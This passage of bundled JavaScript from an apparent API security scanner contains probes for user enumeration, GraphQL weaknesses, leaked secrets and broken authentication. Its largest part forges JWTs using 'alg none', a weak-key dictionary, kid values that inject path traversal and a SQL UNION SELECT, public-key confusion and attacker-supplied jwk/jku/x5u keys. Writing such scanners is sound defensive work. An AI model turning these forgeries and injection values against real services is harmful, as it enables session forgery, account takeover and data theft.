property: property
} ],
control: control,
reason: null
};
}
function isTaken(exchange) {
if (exchange === null || exchange.response.status > 299) return false;
return !(0, json_values.sr)((0, json_values.P7)(exchange));
}
function namesIn({operation: operation, own: own, anonymous: anonymous}) {
const described = [];
const visit = schema => {
for (const [name, property] of schema?.properties ?? []) {
described.push(name);
visit(property);
}
if (schema?.items !== undefined) visit(schema.items);
};
visit(operation.response ?? undefined);
return [ ...described, ...[ own, anonymous ].flatMap(exchange => (0, json_values.wf)((0, 
json_values.qu)(exchange)).map(({name: name}) => name)) ];
}
async function rightsOf(reader, account, signIn, showing, rights) {
const found = new Map;
const session = signIn === null ? null : await post(reader.context, signIn, accountBody(signIn, account));
const token = session === null || !isTaken(session) ? null : tokenIn(jsonOf(session.response.text));
const headers = token === null ? [] : [ [ "Authorization", `Bearer ${token}` ] ];
for (const {operation: operation} of showing.slice(0, probe_accounts_READ_MAX)) {
const values = new Map(operation.parameters.filter(one => one.in === "path").map(({name: name}) => [ name, account.username ]));
const exchange = await reader.read({
operation: operation,
values: values,
reader: "none",
headers: headers,
isFresh: true
});
for (const {name: name, value: value, record: record} of (0, json_values.wf)((0, 
json_values.qu)(exchange))) {
const isOwn = Object.values(record ?? {}).some(one => one === account.username || one === account.email);
if (isOwn && rights.includes(name) && !found.has(name)) found.set(name, value);
}
}
return found;
}
async function probeEnumeration(context, signIn, known) {
const at = known.lastIndexOf("@");
const domain = at === -1 ? "example.com" : known.slice(at + 1);
const attempt = async name => {
const email = name.includes("@") ? name : `${name}@${domain}`;
const exchange = await post(context, signIn, accountBody(signIn, {
username: name,
email: email,
password: `Sg1!${context.token(16)}`
}));
if (exchange === null || exchange.response.status >= 429) return null;
const {status: status, text: text} = exchange.response;
return {
exchange: exchange,
text: `${status} ${text.slice(0, 2e4).replaceAll(email, "").replaceAll(name, "").replace(/\d{4,30}/g, "")}`
};
};
const invented = () => at === -1 ? context.token(12) : `${context.token(12)}@${domain}`;
const first = await attempt(known);
const unknown = first === null ? null : await attempt(invented());
if (first === null || unknown === null || first.text === unknown.text) return [];
const [again, other] = [ await attempt(known), await attempt(invented()) ];
if (again?.text !== first.text || other?.text !== unknown.text) return [];
const messages = [ first, unknown ].map(({exchange: exchange}) => messageOf(exchange));
const detail = `to an existing user: ${messages[0]}; to one that does not exist: ${messages[1]}; twice each`;
return [ {
kind: "user_enumeration",
operation: signIn,
exchange: unknown.exchange,
detail: detail
} ];
}
function messageOf(exchange) {
const texts = (0, json_values.wf)((0, json_values.P7)(exchange)).flatMap(({value: value}) => typeof value === "string" ? [ value ] : []);
return `${exchange.response.status} "${texts.join(", ").slice(0, 120)}"`;
}
const IN_ENVIRONMENT = /(?:^|\.)env(?:iron(?:ment)?)?(?:_?vars?|_?variables)?\.[A-Z][A-Z\d_]{0,60}$/;
const OF_ENVIRONMENT = /(?:PASSWORD|PASSWD|PASSPHRASE|SECRET(?:_KEY)?|PRIVATE_KEY|API_?KEY|ACCESS_KEY)$/;
const OF_CLIENT = /^(?:pi|seti|cs|src|pm)_/;
const STORED_HASH = /^(?:\$2[abxy]\$\d\d\$[./A-Za-z\d]{53}|\$argon2(?:id?|d)\$.{20,400}|\$[156]\$.{10,200}|\$P\$[./A-Za-z\d]{31}|pbkdf2[_:]sha\d{1,3}[:$].{20,400}|scrypt:.{20,400}|\{S?SHA\}.{20,200})$/;
const PRIVATE_KEY = /^-----BEGIN (?:[A-Z]{1,20} )?PRIVATE KEY-----/;
const MASK = /\*\*|••|\.\.\.|…|xxxxxx|\[[^\]]{1,40}\]|<[^>]{1,40}>/i;
function secretProperties(root, isAnonymous, isOfPerson = false) {
const identity = isAnonymous ? "identity" : "person";
const found = new Map;
for (const leaf of (0, json_values.wf)(root)) {
if (typeof leaf.value !== "string" || !secret_names_isSecret(leaf, leaf.value, identity, isOfPerson)) continue;
const entry = found.get(leaf.path) ?? {
leaves: [],
values: new Set
};
entry.leaves.push(leaf);
entry.values.add(leaf.value);
found.set(leaf.path, entry);
}
return [ ...found ].flatMap(([path, {leaves: leaves, values: values}]) => {
const [first] = leaves;
if (first === undefined) return [];
if (isOfEnvironment(first)) return [ {
path: path,
records: leaves.length
} ];
const isList = new Set(leaves.map(({record: record}) => record)).size > 1;
const isKey = (0, data_names.cP)("user-key", first.name) || !isAnonymous && (0, 
data_names.cP)("key", first.name);
if (isKey && (!isList || values.size < 2 || identitiesOf(leaves, identity) < 2)) return [];
const isWord = [ ...values ].every(value => /^\p{L}{1,30}$/u.test(value));
if ((0, data_names.cP)("leaked-password", first.name) && isWord && (!isList || identitiesOf(leaves, identity) < 2)) return [];
return [ {
path: path,
records: leaves.length
} ];
});
}
function isOfEnvironment({path: path, name: name}) {
return IN_ENVIRONMENT.test(path) && OF_ENVIRONMENT.test(name.slice(0, 100));
}
function secret_names_isSecret(leaf, value, identity, isOfPerson) {
const {name: name, record: record} = leaf;
if (STORED_HASH.test(value.slice(0, 500)) || PRIVATE_KEY.test(value.slice(0, 60))) return true;
if (value.length < 4 || value.length > 4e3 || (0, data_names.cP)("no-secret", value) || MASK.test(value.slice(0, 200))) return false;
if (/\s|^https?:|^\/|^\d{4}-\d\d-\d\d/.test(value.slice(0, 4e3)) || (0, data_names.MH)(value) === (0, 
data_names.MH)(name)) return false;
if (isOfEnvironment(leaf)) return true;
if ((0, data_names.cP)("stored-hash", name)) return value.length >= 16;
if ((0, data_names.cP)("key", name)) return value.length >= 8 && !OF_CLIENT.test(value);
const isPassword = (0, data_names.cP)("leaked-password", name);
if (!isPassword && !(0, data_names.cP)("user-key", name)) return false;
if (record !== null && isOfPerson && isPassword) return true;
return record !== null && Object.entries(record).some(([other, member]) => isIdentity(other, member, identity));
}
function isIdentity(name, value, identity) {
const isScalar = typeof value === "string" && value !== "" || typeof value === "number";
return isScalar && (0, data_names.cP)(identity, name);
}
function namesPerson(name) {
return (0, data_names.cP)("person", name);
}
function identitiesOf(leaves, identity) {
const named = leaves.flatMap(({record: record}) => Object.entries(record ?? {}).filter(([name, value]) => isIdentity(name, value, identity)).slice(0, 1).map(([, value]) => String(value)));
return new Set(named).size;
}
const probe_graphql_ENDPOINTS_MAX = 2;
const probe_graphql_REQUESTS_KEPT = 80;
const DEPTH = 20;
const BATCH = [ {
query: "{__typename}"
}, {
query: "{__typename}"
} ];
const EMPTY_MUTATION = "mutation{__typename}";
const probe_graphql_INTROSPECTION = "{__schema{queryType{name}}}";
async function probeGraphql(reader, operations) {
const ofGraphql = operations.filter(({format: format}) => format === "graphql");
const endpoints = [ ...new Set(ofGraphql.map(({template: template}) => template)) ].filter(url => (0, 
link_policy.af)(new URL(url), reader.context.options)).slice(0, probe_graphql_ENDPOINTS_MAX);
const probes = [];
for (const url of endpoints) {
const fields = ofGraphql.filter(({template: template}) => template === url).flatMap(({id: id}) => /^query (\w{3,60})$/.exec(id)?.[1] ?? []);
probes.push(...await probeEndpoint(reader, url, fields));
}
return {
probes: probes,
endpoints: endpoints.length
};
}
async function probeEndpoint(reader, url, fields) {
const {context: context} = reader;
const send = async body => {
if (context.requestsLeft() < probe_graphql_REQUESTS_KEPT) return null;
const headers = [ [ "Content-Type", "application/json" ], [ "Accept", "application/json" ] ];
const attempt = await context.fetch({
method: "POST",
url: url,
headers: headers,
body: JSON.stringify(body)
});
return (0, http.m_)(attempt) ? attempt : null;
};
const get = async query => {
if (context.requestsLeft() < probe_graphql_REQUESTS_KEPT) return null;
const target = new URL(url);
target.searchParams.set("query", query);
const attempt = await context.fetch({
url: target.href,
headers: [ [ "Accept", "application/json" ] ]
});
return (0, http.m_)(attempt) ? attempt : null;
};
const found = [];
const note = (fault, exchange, isFault) => {
if (exchange !== null && isFault) found.push({
kind: "graphql",
fault: fault,
exchange: exchange
});
};
const introspection = await send({
query: probe_graphql_INTROSPECTION
});
note("introspection", introspection, dataIn(introspection, "__schema") !== undefined);
const [field] = fields;
const misspelled = field === undefined ? null : await send({
query: `{${field}${context.token(1)}}`
});
note("suggestions", misspelled, suggests(misspelled, fields));
const batch = await send(BATCH);
const responses = batch === null ? null : (0, json_values.P7)(batch);
note("batching", batch, Array.isArray(responses) && responses.length === 2 && responses.every(one => typenameOf(one) !== null));
const mutation = await get(EMPTY_MUTATION);
const name = mutation === null ? null : typenameOf((0, json_values.P7)(mutation));
const query = name === null ? null : await get("{__typename}");
note("get_mutations", mutation, name !== null && query !== null && typenameOf((0, 
json_values.P7)(query)) !== name);
const deep = await send({
query: `{ __type(name: "String") { name${nested(DEPTH)} } }`
});
note("depth", deep, dataIn(deep, "__type") !== undefined);
return found;
}
function nested(depth) {
return depth === 0 ? "" : ` ofType { name${nested(depth - 1)} }`;
}
function dataIn(exchange, field) {
const root = exchange === null ? null : (0, json_values.P7)(exchange);
if (!(0, shared_records.u4)(root) || root["errors"] !== undefined || !(0, shared_records.u4)(root["data"])) return undefined;
return root["data"][field] ?? undefined;
}
function typenameOf(root) {
if (!(0, shared_records.u4)(root) || root["errors"] !== undefined || !(0, shared_records.u4)(root["data"])) return null;
const name = root["data"]["__typename"];
return typeof name === "string" ? name : null;
}
function suggests(exchange, fields) {
const root = exchange === null ? null : (0, json_values.P7)(exchange);
if (!(0, shared_records.u4)(root) || !Array.isArray(root["errors"])) return false;
const [error] = root["errors"];
const message = (0, shared_records.u4)(error) && typeof error["message"] === "string" ? error["message"].slice(0, 2e3) : "";
const hint = /Did you mean (.{1,300})/i.exec(message)?.[1];
return hint !== undefined && fields.some(field => hint.includes(field));
}
const weak_jwt_keys_namespaceObject = JSON.parse('{"aL":["secret secretkey secret-key secret_key mysecret my-secret my_secret mysecretkey my-secret-key my_secret_key supersecret super-secret","super_secret supersecretkey super-secret-key super_secret_key topsecret top-secret verysecret very-secret yoursecret your-secret","your_secret your-secret-key your_secret_key yoursecretkey thesecret thisisasecret this-is-a-secret thisismysecret thisisasecretkey","this-is-a-secret-key this_is_a_secret_key shhhh shhhhh shhhhhh shhhhhhared-secret shared-secret shared_secret sharedsecret","jwt jwtsecret jwt-secret jwt_secret jwtkey jwt-key jwt_key jwtsecretkey jwt-secret-key jwt_secret_key jwttoken myjwtsecret","my-jwt-secret my_jwt_secret your-jwt-secret your_jwt_secret your-256-bit-secret your-384-bit-secret your-512-bit-secret","a-string-secret-at-least-256-bits-long token tokensecret token-secret token_secret tokenkey access accesstoken access-token","access_token access_token_secret access-token-secret accesssecret refresh refreshtoken refresh_token_secret key mykey my-key my_key","private privatekey private-key private_key signingkey signing-key signing_key sign signature hmac hmackey hs256 auth authsecret","auth-secret auth_secret authkey authentication api apikey api-key api_key apisecret api-secret api_secret session sessionsecret","session-secret session_secret keyboard keyboardcat app appsecret app-secret app_secret app_key appkey application client","clientsecret client-secret client_secret password passw0rd p@ssw0rd p@ssword pass pass123 password1 password123 changeme change-me","change_me changeit change-it changethis change-this change_this please-change-me pleasechangeme replaceme replace-me todo fixme","admin admin123 administrator root toor user guest test test123 testing testsecret test-secret test_secret testkey test-key test_key","demo demosecret example examplekey example_key example-key sample default defaultsecret default-secret default_secret defaultkey","dev develop development devsecret dev-secret dev_secret dev-secret-key dev-key debug local localhost staging prod production","production-secret insecure insecure-secret django-insecure not-secret notsecret not-so-secret notasecret random randomkey","randomstring random-string random_string randomsecret string somesecret some-secret some_secret somekey some-key anything","foo bar foobar foobarbaz baz qux abc abcd abc123 abcdef abcdefg abcdefgh xyz asdf asdfgh asdfghjkl qwe qwerty qwerty123 qwertyuiop","zxcvbnm 0 1 12 123 1234 12345 123456 1234567 12345678 123456789 1234567890 0123456789 0123456789abcdef 11111 111111 000000 123123","654321 987654321 iloveyou letmein welcome welcome1 monkey dragon master sunshine princess football baseball superman batman trustno1","hello helloworld hello-world hello_world world hi gateway server backend service node nodejs express expressjs react nestjs nest","next nextauth next-auth nextauth_secret next-auth-secret flask flasksecret flask-secret fastapi django rails laravel symfony spring","springboot spring-boot java python golang go rust dotnet php javascript typescript koa hapi fastify strapi strapisecret directus","hasura graphql mongo mongodb mysql postgres redis docker kubernetes aws azure google github gitlab oauth oauth2 openid sso passport","authserver identity encryption encryptionkey encryption_key encrypt crypto cipher salt pepper sugar magic hash md5 sha256 bearer","blog shop store todoapp todos notes chat mern meanstack ecommerce"],"HJ":["keyboard cat","my secret","my secret key","your secret key","super secret","super secret key","this is a secret","this is a secret key","secret key","hello world","Sn1f","S3cr3t","s3cr3t","s3cret","SuperSecretKey","MySecretKey","YourSecretKey","mySecretKey","jwtSecret","secretKey","secret123","secret1234","Secret123","mysecret123","secret!","P@ssw0rd","AllYourBase","ThisIsMySecret"]}');
const WEAK_JWT_KEYS = [ ...new Set([ ...weak_jwt_keys_namespaceObject.HJ, ...weak_jwt_keys_namespaceObject.aL.flatMap(line => line.split(" ")).flatMap(word => [ word, word.toUpperCase(), `${word[0]?.toUpperCase()}${word.slice(1)}` ]) ]) ];
const GUESSED_MAX = 8192;
const HASHES = {
HS256: "sha256",
HS384: "sha384",
HS512: "sha512"
};
const PART_MAX = 8e3;
function parseJwt(token) {
const match = /^([\w-]{8,8000})\.([\w-]{2,8000})\.([\w-]{0,2000})$/.exec(token.slice(0, PART_MAX * 2 + 2010));
if (match === null) return null;
const [, head = "", payload = "", signature = ""] = match;
const [header, claims] = [ jwt_objectOf(head), jwt_objectOf(payload) ];
if (header === null || claims === null || typeof header["alg"] !== "string") return null;
return {
header: header,
claims: claims,
signed: `${head}.${payload}`,
signature: signature
};
}
function jwt_objectOf(part) {
const value = (0, shared_records.U4)(Buffer.from(part, "base64url").toString("utf8"));
return (0, shared_records.u4)(value) ? value : null;
}
function encoded(value) {
return Buffer.from(JSON.stringify(value)).toString("base64url");
}
function hmac(alg, signed, key) {
const hash = (0, shared_records.eC)(HASHES, String(alg));
return hash === undefined ? null : (0, external_node_crypto_.createHmac)(hash, key).update(signed).digest("base64url");
}
function weakKeyOf(jwt) {
if (jwt.signature === "" || jwt.signed.length > GUESSED_MAX) return null;
return WEAK_JWT_KEYS.find(key => hmac(jwt.header["alg"], jwt.signed, key) === jwt.signature) ?? null;
}
function signedBy(jwt, header, claims, sign) {
const signed = `${encoded({
...jwt.header,
...header
})}.${encoded({
...jwt.claims,
...claims
})}`;
return `${signed}.${sign(signed)}`;
}
function hmacSigner(alg, key) {
return signed => hmac(alg, signed, key) ?? "";
}
function wronglySigned({signed: signed, signature: signature}) {
const turned = [ ...signature ].map(letter => letter === "A" ? "B" : "A").join("");
return `${signed}.${turned === "" ? "AAAA" : turned}`;
}
function expiryOf({claims: claims}) {
const {exp: exp} = claims;
return typeof exp === "number" && Number.isFinite(exp) ? exp : null;
}
var external_node_net_ = __webpack_require__(77030);
var address_guard = __webpack_require__(52556);
var callback_listener = __webpack_require__(77123);
var callback_names = __webpack_require__(17374);
async function openLoopback({address: address, token: token}) {
if (!(0, address_guard.Ow)(address)) return null;
const secret = (0, external_node_crypto_.randomBytes)(20).toString("hex");
const listener = new callback_listener.UO(secret);
const own = (0, external_node_net_.isIPv4)(address) ? "127.0.0.1" : "::1";
const isOpen = await listener.open(own, 0).then(() => true, () => false);
if (!isOpen) return null;
listener.unref();
const origin = `http://${(0, target_address.V8)(own, listener.port)}`;
return {
isLoopback: true,
patience: 0,
problem: null,
name: () => (0, callback_names.Dc)(origin, false, token(callback_names.PX, nonce => (0, 
callback_names.l2)(secret, nonce))),
read: async names => new Map(names.flatMap(name => {
const callback = listener.store.read(name);
return callback === null ? [] : [ [ name, callback ] ];
})),
isOwn: url => new URL(url).origin === origin,
give: (name, text) => listener.give(name, text),
has: name => listener.store.read(name) !== null,
close: () => listener.close()
};
}
var quote = __webpack_require__(39226);
async function makeOwnKey(alg, now) {
const isCurve = alg.startsWith("ES");
const {publicKey: publicKey, privateKey: privateKey} = await (isCurve ? (0, external_node_util_.promisify)(external_node_crypto_.generateKeyPair)("ec", {
namedCurve: "P-256"
}) : (0, external_node_util_.promisify)(external_node_crypto_.generateKeyPair)("rsa", {
modulusLength: 2048
}));
return {
alg: isCurve ? "ES256" : "RS256",
jwk: {
...publicKey.export({
format: "jwk"
}),
use: "sig"
},
certificate: certificateOf(publicKey, privateKey, now).toString("base64"),
sign: text => (0, external_node_crypto_.createSign)("sha256").update(text).sign({
key: privateKey,
dsaEncoding: "ieee-p1363"
}).toString("base64url")
};
}
const DAY_MS = 24 * 36e5;
const SEQUENCE = 48;
const SIGNED_BY_CURVE = Buffer.from("300a06082a8648ce3d040302", "hex");
const SIGNED_BY_RSA = Buffer.from("300d06092a864886f70d01010b0500", "hex");
const COMMON_NAME = Buffer.from("0603550403", "hex");
function certificateOf(publicKey, privateKey, now) {
const algorithm = publicKey.asymmetricKeyType === "ec" ? SIGNED_BY_CURVE : SIGNED_BY_RSA;
const common = der(SEQUENCE, COMMON_NAME, der(12, Buffer.from("scangate")));
const name = der(SEQUENCE, der(49, common));
const time = day => {
const digits = new Date(now.getTime() + day * DAY_MS).toISOString().replace(/\.\d+|\D/g, "");
return der(23, Buffer.from(`${digits.slice(2)}Z`));
};
const validity = der(SEQUENCE, time(-1), time(1));
const content = der(SEQUENCE, der(2, Buffer.from([ 1 ])), algorithm, name, validity, name, publicKey.export({
type: "spki",
format: "der"
}));
const signature = (0, external_node_crypto_.createSign)("sha256").update(content).sign(privateKey);
return der(SEQUENCE, content, algorithm, der(3, Buffer.from([ 0 ]), signature));
}
function der(tag, ...parts) {
const contents = Buffer.concat(parts);
const {length: length} = contents;
const head = length < 128 ? [ tag, length ] : length < 256 ? [ tag, 129, length ] : [ tag, 130, length >> 8, length & 255 ];
return Buffer.concat([ Buffer.from(head), contents ]);
}
const public_keys_TEXT_MAX = 256 * 1024;
const KEYS_MAX = 20;
const MEMBER_MAX = 2e3;
const PEM = /-----BEGIN (?:PUBLIC KEY|RSA PUBLIC KEY|CERTIFICATE)-----[\w+/=\s]{50,12000}-----END [A-Z ]{3,20}-----/g;
function publicKeysIn(text) {
const start = text.slice(0, public_keys_TEXT_MAX);
const set = (0, shared_records.U4)(start);
if ((0, shared_records.u4)(set) && Array.isArray(set["keys"])) return set["keys"].slice(0, KEYS_MAX).flatMap(ofJwk);
return (start.match(PEM) ?? []).slice(0, KEYS_MAX).flatMap(pem => {
const key = keyFrom(() => (0, external_node_crypto_.createPublicKey)(pem));
return key === null ? [] : [ {
kid: null,
key: key,
certificate: pem.includes("CERTIFICATE") ? pem : null
} ];
});
}
function ofJwk(jwk) {
if (!(0, shared_records.u4)(jwk) || Object.values(jwk).some(value => typeof value === "string" && value.length > MEMBER_MAX)) return [];
const key = keyFrom(() => (0, external_node_crypto_.createPublicKey)({
key: jwk,
format: "jwk"
}));
if (key === null) return [];
const {kid: kid, x5c: x5c} = jwk;
const first = Array.isArray(x5c) ? x5c[0] : null;
const certificate = typeof first === "string" ? pemOf(first) : null;
return [ {
kid: typeof kid === "string" ? kid : null,
key: key,
certificate: certificate
} ];
}
function pemOf(base64) {
try {
return new external_node_crypto_.X509Certificate(Buffer.from(base64.slice(0, 12e3), "base64")).toString();
} catch {
return null;
}
}
function keyFrom(make) {
try {
return make();
} catch {
return null;
}
}
function public_keys_textsOf({key: key, certificate: certificate}) {
const spki = key.export({
type: "spki",
format: "pem"
}).toString();
const pkcs1 = key.asymmetricKeyType === "rsa" ? [ key.export({
type: "pkcs1",
format: "pem"
}).toString() ] : [];
return [ spki, spki.trimEnd(), ...pkcs1, ...certificate === null ? [] : [ certificate ] ];
}
const KEY_SETS = [ "/.well-known/openid-configuration", "/.well-known/jwks.json", "/jwks.json" ];
const probe_forgeries_KEYS_MAX = 2;
const SAME = "returns the same properties";
async function* forgeries(reader, readings, jwt) {
const {context: context} = reader;
yield* withoutKey(jwt);
if (typeof jwt.header["kid"] === "string") yield* withKeyId(context, jwt);
if (/^(?:RS|PS|ES|Ed)/.test(String(jwt.header["alg"]))) yield* withPublicKey(await publishedKeys(context, readings, jwt), jwt);
const listener = await openLoopback(context);
try {
yield* withOwnKey(context, jwt, listener);
} finally {
await (listener?.close());
}
}
function* withoutKey(jwt) {
yield {
fault: "none_accepted",
detail: `the claims with "alg": "none" and without a signature return the same properties`,
make: claims => signedBy(jwt, {
alg: "none"
}, claims, () => "")
};
const key = weakKeyOf(jwt);
if (key === null) return;
const {alg: alg} = jwt.header;
yield {
fault: "weak_key",
detail: `${String(alg).slice(0, 10)} with the well-known key ${(0, quote.dK)(key)}; a token that the scan signed with it ${SAME}`,
make: claims => signedBy(jwt, {}, claims, hmacSigner(alg, key))
};
}
function hmacName({header: {alg: alg}}) {
return /^HS(?:256|384|512)$/.test(String(alg)) ? String(alg) : "HS256";
}
function* withKeyId(context, jwt) {
const alg = hmacName(jwt);
const kid = `${"../".repeat(12)}dev/null`;
yield {
fault: "kid_injection",
detail: `a token signed with an empty key, whose kid is the path of an empty file (${kid}), ${SAME}`,
make: claims => signedBy(jwt, {
alg: alg,
kid: kid
}, claims, hmacSigner(alg, ""))
};
yield {
fault: "kid_injection",
detail: `a token whose kid selects its key by SQL (' UNION SELECT …) ${SAME}`,
make: claims => {
const key = context.token(20);
const injected = `${context.token(8)}' UNION SELECT '${key}`;
return signedBy(jwt, {
alg: alg,
kid: injected
}, claims, hmacSigner(alg, key));
}
};
}
function* withPublicKey(keys, jwt) {
const alg = "HS256";
const texts = new Set(keys.flatMap(public_keys_textsOf));
for (const text of texts) yield {
fault: "key_confusion",
detail: `a token signed as ${alg} with the text of the public key that the application publishes ${SAME}`,
make: claims => signedBy(jwt, {
alg: alg
}, claims, hmacSigner(alg, text))
};
}
async function publishedKeys(context, readings, jwt) {
const {kid: kid} = jwt.header;
const known = readings.flatMap(({own: own, anonymous: anonymous}) => [ own, anonymous ]).flatMap(one => one?.response.text ?? []);
const keys = known.flatMap(publicKeysIn);
let named = null;
for (const path of KEY_SETS) {
if (keys.length > 0) break;
const text = await readText(context, typeof named === "string" ? named : path);
keys.push(...publicKeysIn(text));
const value = jsonOf(text);
named = (0, shared_records.u4)(value) ? value["jwks_uri"] : null;
}
const rank = key => key.kid === kid ? 0 : 1;
return keys.sort((one, other) => rank(one) - rank(other)).slice(0, probe_forgeries_KEYS_MAX);
}
async function readText(context, reference) {
const {origin: origin} = context.target;
const url = URL.parse(reference, origin);
if (url === null || url.origin !== origin || !(0, link_policy.af)(url, context.options)) return "";
const attempt = await context.fetch({
url: url.href
});
return (0, http.m_)(attempt) && attempt.response.status === 200 ? attempt.response.text : "";
}
async function* withOwnKey(context, jwt, listener) {
const {alg: alg, jwk: jwk, certificate: certificate, sign: sign} = await makeOwnKey(String(jwt.header["alg"]), context.now);
const kid = context.token(12);
const named = {
...jwk,
kid: kid
};
const forgery = (name, member) => ({
fault: "header_key",
detail: `a token signed with a key of the scan, which its header has as ${name}, ${SAME}`,
make: claims => signedBy(jwt, {
alg: alg,
kid: kid,
[name]: member()
}, claims, sign)
});
yield forgery("jwk", () => named);
yield forgery("x5c", () => [ certificate ]);
if (listener === null) return;
const fetched = (name, text) => {
let given = "";
const give = () => {
const at = listener.name();
given = at.name;
listener.give(given, text);
return at.url();
};
return {
...forgery(name, give),
isFetched: () => listener.has(given)
};
};
yield fetched("jku", JSON.stringify({
keys: [ named ]
}));
const lines = certificate.match(/.{1,64}/g) ?? [];
yield fetched("x5u", [ "-----BEGIN CERTIFICATE-----", ...lines, "-----END CERTIFICATE-----", "" ].join("\n"));
}
const DAY_SECONDS = 24 * 3600;
const LEEWAY_SECONDS = 600;
async function probeJwt(reader, readings) {
const {context: context} = reader;
const session = context.sessionToken();
const jwt = session === null ? null : parseJwt(session.token);
if (session === null || jwt === null) return {
probes: [],
reason: "the session carries no JSON Web Token"
};
const isGuarded = ({own: own, anonymous: anonymous}) => (0, json_values.qu)(own) !== undefined && (0, 
json_values.H0)(anonymous) && anonymous?.response.status !== 404;
const place = readings.find(isGuarded);
if (place === undefined) return {
probes: [],
reason: "no operation refuses requests without a session"
};
const wanted = (0, json_values.MH)((0, json_values.qu)(place.own)).join("\n");
const read = token => {
const headers = [ [ session.header, session.before + token + session.after ] ];
return reader.read({
...place,
reader: "none",
headers: headers
});
};
const accepted = async token => {
const response = await read(token);
const data = (0, json_values.qu)(response);
return data !== undefined && (0, json_values.MH)(data).join("\n") === wanted ? response : null;
};
if (await accepted(`${context.token(20)}.${context.token(20)}.${context.token(20)}`) !== null) return {
probes: [],
reason: "the operations accept any token"
};
const ignored = await accepted(wronglySigned(jwt));
if (ignored !== null) {
const detail = "the same token with another signature returns the same properties";
return {
probes: [ {
kind: "jwt",
fault: "signature_ignored",
exchange: ignored,
detail: detail
} ],
reason: null
};
}
const forged = await tryForgeries(reader, readings, jwt, {
accepted: accepted,
refused: async token => (0, json_values.H0)(await read(token))
});
return {
probes: [ ...forged, ...await expired(jwt, accepted, context.now) ],
reason: null
};
}
async function tryForgeries(reader, readings, jwt, {accepted: accepted, refused: refused}) {
const {context: context} = reader;
const seconds = Math.floor(context.now.getTime() / 1e3);
const future = Math.max(expiryOf(jwt) ?? 0, seconds + 3600);
const past = {
iat: seconds - 2 * DAY_SECONDS,
nbf: seconds - 2 * DAY_SECONDS,
exp: seconds - DAY_SECONDS
};
const probes = new Map;
for await (const {fault: fault, detail: detail, make: make, isFetched: isFetched} of forgeries(reader, readings, jwt)) {
if (probes.has(fault)) continue;
const hit = await accepted(make({
exp: future + 1
}));
if (hit === null || isFetched?.() === false) continue;
const isProven = async exp => await refused(spoilt(jwt, make({
exp: exp
}))) && await accepted(make({
exp: exp
})) !== null;
if (!await isProven(future + 2) || !await isProven(future + 3)) continue;
probes.set(fault, {
kind: "jwt",
fault: fault,
exchange: hit,
detail: detail
});
const late = probes.has("expired_accepted") ? null : await accepted(make(past));
if (late !== null) probes.set("expired_accepted", {
kind: "jwt",
fault: "expired_accepted",
exchange: late,
detail: PAST
});
}
return [ ...probes.values() ];
}
const PAST = "a token that expired a day ago returns the same properties";
function spoilt(jwt, token) {
const end = token.lastIndexOf(".");
const signature = token.slice(end + 1);
return wronglySigned(signature === "" ? jwt : {
signed: token.slice(0, end),
signature: signature
});
}
async function expired(jwt, accepted, now) {
const expiry = expiryOf(jwt);
const age = expiry === null ? 0 : Math.floor(now.getTime() / 1e3) - expiry;
if (age < LEEWAY_SECONDS) return [];
const exchange = await accepted(`${jwt.signed}.${jwt.signature}`);
if (exchange === null) return [];
const detail = `the session's own token, which expired ${Math.floor(age / 60)} minutes before the scan, returns the same properties`;
return [ {
kind: "jwt",
fault: "expired_accepted",
exchange: exchange,
detail: detail
} ];
}
const gather_api_PROBED_MAX = 30;
const DESCRIBED_MIN = 2;
async function probeAuthentication(reader, readings) {
const open = readings.filter(reading => isOpen(reading, reader.isSignedIn)).slice(0, gather_api_PROBED_MAX);
const probes = await forEachOf(open, async ({operation: operation, values: values, own: own, anonymous: anonymous}) => {
const token = `${reader.context.token(20)}.${reader.context.token(20)}`;
const headers = [ [ "Authorization", `Bearer ${token}` ] ];
const invented = await reader.read({
operation: operation,
values: values,
reader: "none",
headers: headers
});
if (anonymous === null || !isAlike((0, json_values.qu)(anonymous), (0, json_values.qu)(invented))) return [];
return [ {
kind: "broken_authentication",
operation: operation,
own: own,
other: anonymous
} ];
});
return probes.flat();
}
function isOpen({operation: operation, own: own, anonymous: anonymous}, isSignedIn) {
if (operation.security !== "required" || isPublic(operation)) return false;
const data = (0, json_values.qu)(anonymous);
if (data === undefined) return false;
if (isSignedIn) return isAlike((0, json_values.qu)(own), data);
const described = gather_api_namesOf(operation.response);
const held = new Set((0, json_values.XF)(data).map(({name: name}) => (0, data_names.MH)(name)));
return [ ...held ].filter(name => described.has(name)).length >= DESCRIBED_MIN;
}
function isPublic({template: template}) {
const {pathname: pathname} = new URL(template);
const segments = pathname.toLowerCase().split("/");
const words = (segments.filter(segment => segment !== "").at(-1) ?? "").split(/[._-]+/);
const isNamedPublic = segments.includes("public") || words.some(word => (0, data_names.cP)("public", word));
return isNamedPublic || (0, sign_in_page.RJ)({
url: template,
text: ""
});
}
function isAlike(one, other) {
if (one === undefined || other === undefined) return false;
return (0, json_values.MH)(one).join("\n") === (0, json_values.MH)(other).join("\n");
}
function gather_api_namesOf(schema, found = new Set) {
if (schema === null) return found;
for (const [name, property] of schema.properties ?? []) {
found.add((0, data_names.MH)(name));
gather_api_namesOf(property, found);
}
return gather_api_namesOf(schema.items ?? null, found);
}
const gather_api_ITEMS_MAX = 20;
const gather_api_DEPTH_MAX = 8;
const EXTRA_MAX = 20;
function probeSecrets(readings) {
return readings.flatMap(({operation: operation, own: own, anonymous: anonymous}) => {
const isOfPerson = operation.parameters.some(one => one.in === "path" && namesPerson(one.name));
for (const exchange of [ anonymous, own ]) {
const data = (0, json_values.qu)(exchange);
const isAnonymous = exchange === anonymous;
const properties = data === undefined ? [] : secretProperties(data, isAnonymous, isAnonymous && isOfPerson);
if (exchange === null || properties.length === 0) continue;
return [ {
kind: "secret_properties",
operation: operation,
exchange: exchange,
properties: properties,
isAnonymous: exchange === anonymous
} ];
}
return [];
});
}
function probeUndocumented(readings) {
return readings.flatMap(({operation: operation, own: own, anonymous: anonymous}) => {
const exchange = [ own, anonymous ].find(one => (0, json_values.qu)(one) !== undefined) ?? null;
if (exchange === null || operation.response === null) return [];
const properties = [ ...new Set(extraIn((0, json_values.qu)(exchange), operation.response, "", 0)) ].slice(0, EXTRA_MAX);
return properties.length === 0 ? [] : [ {
kind: "undocumented_properties",
operation: operation,
exchange: exchange,
properties: properties
} ];
});
}
function extraIn(value, schema, path, depth) {
if (depth > gather_api_DEPTH_MAX) return [];
if (Array.isArray(value)) {
const {items: items} = schema;
if (items === undefined) return [];
return value.slice(0, gather_api_ITEMS_MAX).flatMap(item => extraIn(item, items, `${path}[]`, depth + 1));
}
const {properties: properties} = schema;
